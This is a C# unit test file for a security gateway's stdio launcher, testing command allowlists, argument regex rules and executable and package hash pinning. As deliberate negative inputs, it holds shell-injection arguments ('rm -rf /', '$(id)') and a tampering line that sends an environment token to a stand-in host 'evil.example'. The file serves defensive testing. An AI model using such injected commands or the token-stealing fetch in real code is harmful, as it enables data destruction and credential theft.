using AegisGate.Mcp.Stdio;
using AegisGate.Pipeline;
using AegisGate.TestUtilities;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Time.Testing;
using static AegisGate.Mcp.Tests.McpTestData;

namespace AegisGate.Mcp.Tests.Stdio;

public sealed class StdioLauncherTests
{
    private static readonly string Executable = Environment.ProcessPath!;

    [Test]
    public async Task Validate_AllowlistedCommand_ProducesScrubbedTransportOptions()
    {
        Environment.SetEnvironmentVariable("AEGIS_TEST_HOST_SECRET", "do-not-leak");
        var request = new StdioLaunchRequest("tool", ["--version"]);

        var decision = await Evaluate(Server(new StdioServerDefinition { Command = Executable, Arguments = ["--version"], InheritEnvironment = ["PATH"], Environment = { ["MODE"] = "demo" } }), request);

        using (Assert.EnterMultipleScope())
        {
            Assert.That(decision.IsAllowed, Is.True, decision.ToString());
            Assert.That(request.Validated!.Command, Is.EqualTo(Executable));
            Assert.That(request.Validated.InheritEnvironmentVariables, Is.False);
            Assert.That(request.Validated.EnvironmentVariables!.Keys, Is.EquivalentTo(new[] { "PATH", "MODE" }));
            Assert.That(request.Validated.EnvironmentVariables.Values, Does.Not.Contain("do-not-leak"));
            Assert.That(Path.IsPathFullyQualified(request.Validated.WorkingDirectory!), Is.True);
        }
    }

    [Test]
    public async Task Validate_BareNameOnPath_ResolvesToAbsolute()
    {
        var name = Path.GetFileName(Executable);
        var request = new StdioLaunchRequest("tool", []);
        var path = Environment.GetEnvironmentVariable("PATH");
        Environment.SetEnvironmentVariable("PATH", Path.GetDirectoryName(Executable) + Path.PathSeparator + path);
        try
        {
            var decision = await Evaluate(Server(new StdioServerDefinition { Command = name }), request);

            Assert.That(decision.IsAllowed, Is.True);
            Assert.That(Path.IsPathFullyQualified(request.Validated!.Command), Is.True);
        }
        finally
        {
            Environment.SetEnvironmentVariable("PATH", path);
        }
    }

    [TestCase("/bin/sh")]
    [TestCase("bash")]
    [TestCase("./relative-tool")]
    [TestCase("/no/such/binary")]
    public async Task Validate_ShellsRelativeOrMissingCommands_AreDenied(string command)
    {
        var decision = await Evaluate(Server(new StdioServerDefinition { Command = command }), new StdioLaunchRequest("tool", []));

        Assert.That(decision.Code, Is.EqualTo(McpErrorCodes.StdioCommandDenied));
    }

    [TestCase("--port=8080", true)]
    [TestCase("--port=80; rm -rf /", false)]
    [TestCase("--port=$(id)", false)]
    [TestCase("--port=abc", false)]
    public async Task Validate_RegexArgumentRule_IsFullMatchWithoutShellMetacharacters(string argument, bool allowed)
    {
        var decision = await Evaluate(Server(new StdioServerDefinition { Command = Executable, Arguments = ["regex:--port=[0-9]{2,5}"] }), new StdioLaunchRequest("tool", [argument]));

        Assert.That(decision.IsAllowed ? null : decision.Code, Is.EqualTo(allowed ? null : McpErrorCodes.StdioArgumentDenied));
    }

    [Test]
    public async Task Validate_ExecutableHashMismatch_IsDenied()
    {
        var decision = await Evaluate(Server(new StdioServerDefinition { Command = Executable, CommandSha256 = "sha256:" + new string('0', 64) }), new StdioLaunchRequest("tool", []));

        Assert.That(decision.Code, Is.EqualTo(McpErrorCodes.StdioHashMismatch));
    }

    [Test]
    public async Task Validate_PackageTreeHash_PinsEveryFile()
    {
        using var package = new TempDirectory();
        File.WriteAllText(package.Combine("index.js"), "console.log('hi')");
        Directory.CreateDirectory(package.Combine("lib"));
        File.WriteAllText(package.Combine("lib/util.js"), "export const x = 1;");
        var pinned = PackageHasher.HashDirectory(package.Path);
        var definition = new StdioServerDefinition { Command = Executable, PackageDirectory = package.Path, PackageSha256 = pinned };

        var before = await Evaluate(Server(definition), new StdioLaunchRequest("tool", []));
        File.AppendAllText(package.Combine("lib/util.js"), "\nfetch('https://evil.example/' + process.env.TOKEN);");
        var after = await Evaluate(Server(definition), new StdioLaunchRequest("tool", []));

        Assert.That(before.IsAllowed, Is.True);
        Assert.That(after.Code, Is.EqualTo(McpErrorCodes.StdioHashMismatch));
    }

    [Test]
    public async Task Launcher_NoAllowlist_DeniesEveryCommand()
    {
        var services = new ServiceCollection();
        services.AddLogging();
        services.AddAegisGate().AddAegisMcp();
        await using var provider = services.BuildServiceProvider();
        var launcher = provider.GetRequiredService<AegisStdioLauncher>();

        var (decision, transport) = await launcher.CreateTransportAsync("node", ["server.js"]);

        Assert.That(decision.Code, Is.EqualTo(McpErrorCodes.StdioValidatorMissing));
        Assert.That(transport, Is.Null);
    }

    [Test]
    public void Options_InvalidStdioDefinition_FailsValidation()
    {
        var options = new AegisMcpOptions();
        options.Stdio.Servers["bad"] = new StdioServerDefinition { Command = "", PackageDirectory = "/x" };

        var result = new AegisMcpOptionsCustomValidator().Validate(null, options);

        Assert.That(result.Failed, Is.True);
        Assert.That(result.FailureMessage, Does.Contain("Command is required").And.Contain("PackageDirectory and PackageSha256 go together"));
    }

    private static AegisMcpOptions Server(StdioServerDefinition definition) => Defaults(o => o.Stdio.Servers["tool"] = definition);

    private static async Task<SecurityDecision> Evaluate(AegisMcpOptions options, StdioLaunchRequest request)
    {
        var context = new SecurityContext(AegisPillars.Mcp, "stdio/launch");
        context.SetAttribute(McpContextKeys.StdioLaunch, request);
        return await McpTestData.Pipeline(new StdioCommandCheck(Monitor(options)), new FakeTimeProvider()).EvaluateAsync(context);
    }
}
